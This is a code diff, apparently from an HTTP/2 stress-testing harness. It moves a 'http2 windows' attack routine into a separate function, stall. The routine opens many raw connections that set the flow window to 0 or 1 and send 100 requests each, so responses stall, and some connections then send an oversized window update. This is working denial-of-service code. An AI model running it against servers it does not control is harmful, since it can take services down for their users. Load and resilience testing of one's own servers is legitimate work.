@@ -111,18 +111,21 @@ const STALLED = 200;
 export const stalls: Attack = http2Attack(
   "http2 windows",
   (siege) => `${times(siege, STALLED)} connections of 100 calls each that give the answers no window`,
-  (ground, share, siege) =>
-    crowd(times(siege, STALLED, share), AT_ONCE, async (index) => {
-      using raw = await ground.converse();
-      await raw.send(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, index % 2]));
-      for (let call = 0; call < 100 && !raw.closed; call++) {
-        await raw.sendHeaders(1 + 2 * call, PATH);
-        await raw.send(FRAME.data, END_STREAM, 1 + 2 * call, body(ground.token));
-      }
-      if (index % 3 === 0) await raw.send(FRAME.windowUpdate, 0, 0, Buffer.from([0x7f, 0xff, 0xff, 0xff]));
-      await sleep(300);
-    }),
+  (ground, share, siege) => stall(ground, times(siege, STALLED, share)),
 );
+
+function stall(ground: Ground, connections: number): Promise<void> {
+  return crowd(connections, AT_ONCE, async (index) => {
+    using raw = await ground.converse();
+    await raw.send(FRAME.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, index % 2]));
+    for (let call = 0; call < 100 && !raw.closed; call++) {
+      await raw.sendHeaders(1 + 2 * call, PATH);
+      await raw.send(FRAME.data, END_STREAM, 1 + 2 * call, body(ground.token));
+    }
+    if (index % 3 === 0) await raw.send(FRAME.windowUpdate, 0, 0, Buffer.from([0x7f, 0xff, 0xff, 0xff]));
+    await sleep(300);
+  });
+}
 
 const FLOOD_FRAMES = 100_000;
 
